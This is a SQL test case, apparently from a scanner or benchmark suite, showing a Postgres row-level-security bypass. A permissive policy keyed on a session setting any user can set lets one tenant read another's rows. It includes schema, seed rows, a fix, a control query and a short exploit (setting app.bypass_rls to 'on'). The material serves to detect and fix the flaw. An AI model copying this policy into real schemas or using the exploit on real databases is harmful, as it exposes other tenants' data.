-- What: The documented bypass of a Prisma client extension, a second permissive policy on a setting that any session may set.
-- Class: policy_escape_setting
-- Object: public.File
-- Exploit: set app.bypass_rls = 'on'.
-- Source: prisma-client-extensions row-level-security, copied in many migrations (bypass_rls_policy)
-- Column: tenantId
-- Setting: app.current_tenant_id
-- @schema
create table "File" (id uuid primary key default gen_random_uuid(), "tenantId" uuid not null, name text not null);
alter table "File" enable row level security;
alter table "File" force row level security;
create policy tenant_isolation_policy on "File" using ("tenantId" = current_setting('app.current_tenant_id', true)::uuid);
create policy bypass_rls_policy on "File" using (current_setting('app.bypass_rls', true) = 'on');
grant select, insert, update, delete on "File" to app_user;
-- @rows
insert into "File" ("tenantId", name) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
drop policy bypass_rls_policy on "File";
-- @control
select from "File" where "tenantId" = :'A';
-- @exploit
set app.bypass_rls = 'on';
select name from "File" where name = 'B-secret';
